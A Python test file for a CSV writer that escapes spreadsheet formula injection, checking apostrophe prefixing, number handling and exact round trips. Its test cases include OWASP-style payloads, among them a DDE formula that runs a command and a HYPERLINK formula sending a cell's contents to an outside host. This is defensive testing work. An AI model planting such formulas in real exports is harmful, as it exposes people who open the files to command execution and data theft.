"""What a spreadsheet would calculate is written as text, and read back to the letter."""

import csv
import io
import re
from datetime import date
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from circularlib.ledger.reading.csv_files import text_cells
from circularlib.ledger.safe_csv import csv_text, escaped, unescaped, write_csv
from circularlib.ledger.sample.programme import sample_programme

TEXTS = st.text(st.characters(exclude_categories=["Cs"]), max_size=20)
FORMULAS = st.builds(
    "".join,
    st.tuples(
        st.sampled_from(["", " ", "\t", "\r", "\n", "'", "''", "\ufeff"]),
        st.sampled_from(list("=+-@＝＋－＠﹢﹣﹦﹫")),
        TEXTS,
    ),
)


def written(texts: list[str]) -> list[str]:
    """The texts as they stand in a file."""
    return pl.select(escaped(pl.lit(pl.Series(texts, dtype=pl.String)))).to_series().to_list()


def read(texts: list[str]) -> list[str]:
    """The texts of a file as they are meant."""
    return pl.select(unescaped(pl.lit(pl.Series(texts, dtype=pl.String)))).to_series().to_list()


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://example.org?"&A1)',
        "+SUM(A1:A9)",
        "-2+3",
        "-1-1",
        "- lekt",
        "-",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "＝1+1",
        "－1＋1",
        "＠A1",
        "﹦1",
        "\ufeff=1",
        "\0=1",
        "'=1",
    ],
)
def test_what_begins_like_a_formula_gets_an_apostrophe(text: str) -> None:
    """The list of OWASP's page on csv injection, with the wide signs of East Asian keyboards."""
    assert written([text]) == [f"'{text}"]


@pytest.mark.parametrize(
    "text",
    ["", "-5", "+5", "-5,50", "-1.234,5", "+32475", "kast", "1=2", "a@b", "'s avonds", "5-3"],
)
def test_what_a_spreadsheet_does_not_calculate_is_left_alone(text: str) -> None:
    """`-5` becomes the number -5, which it is; `5-3` and `'s avonds` stay text."""
    assert written([text]) == [text]


@given(st.lists(TEXTS | FORMULAS))
def test_every_text_is_read_back_to_the_letter(texts: list[str]) -> None:
    """Also a text that has apostrophes of its own before a sign."""
    assert read(written(texts)) == texts


@given(st.lists(TEXTS | FORMULAS))
def test_nothing_written_begins_with_a_sign_unless_it_is_a_number(texts: list[str]) -> None:
    """What a spreadsheet passes over (spaces, a byte order mark) does not hide the sign."""
    for text in written(texts):
        bare = re.sub(r"^[\s\ufeff\0]+", "", text)
        assert bare[:1] not in set("=+-@＝＋－＠﹢﹣﹦﹫") or re.fullmatch(
            r"[+-][0-9]+([.,][0-9]+)*", text
        )


def test_numbers_and_dates_are_written_as_they_are() -> None:
    """A typed -5 is a number wherever it is opened."""
    frame = pl.DataFrame({"eur": [-5.5], "count": [-5], "on": [date(2022, 3, 1)], "note": ["-a"]})
    assert csv_text(frame) == "eur,count,on,note\n-5.5,-5,2022-03-01,'-a\n"


def test_a_header_is_a_text_too() -> None:
    """Unknown headers come from the user's file."""
    assert csv_text(pl.DataFrame({"=1+1": ["x"]})).startswith("'=1+1\n")


def test_categories_are_texts_too() -> None:
    """They are stored as numbers and written as words."""
    frame = pl.DataFrame({"kind": pl.Series(["=1", None], dtype=pl.Categorical)})
    assert csv_text(frame) == "kind\n'=1\n\n"


def test_an_empty_table_is_its_header() -> None:
    """No rows, nothing to escape."""
    assert csv_text(pl.DataFrame(schema={"a": pl.String, "b": pl.Int64}), ";") == "a;b\n"


@given(st.lists(TEXTS | FORMULAS, min_size=1))
def test_the_standard_library_reads_the_same_cells(texts: list[str]) -> None:
    """Quotes, delimiters and line breaks within a text stay within its cell."""
    content = csv_text(pl.DataFrame({"n": range(len(texts)), "note": texts}))
    cells = [row[1] for row in csv.reader(io.StringIO(content, newline=""), strict=True)][1:]
    assert read(cells) == texts


def test_the_ledger_reads_what_was_written(tmp_path: Path) -> None:
    """Round trip through a file and the ledger's own reader."""
    payers = ["=1+1", "-", "'s Heeren", "'=x", "stad", "-5"]
    file = tmp_path / "costs.csv"
    write_csv(pl.DataFrame({"cost_id": list("abcdef"), "payer": payers}), file)
    assert text_cells(file, file.read_bytes(), "costs").frame["payer"].to_list() == payers


def test_the_sample_needs_no_apostrophe() -> None:
    """Its messy tables have negative hours as text, and no sign before a word."""
    for frame in sample_programme(homes=8, years=2, messy=True).tables.values():
        assert csv_text(frame) == frame.write_csv(line_terminator="\n")
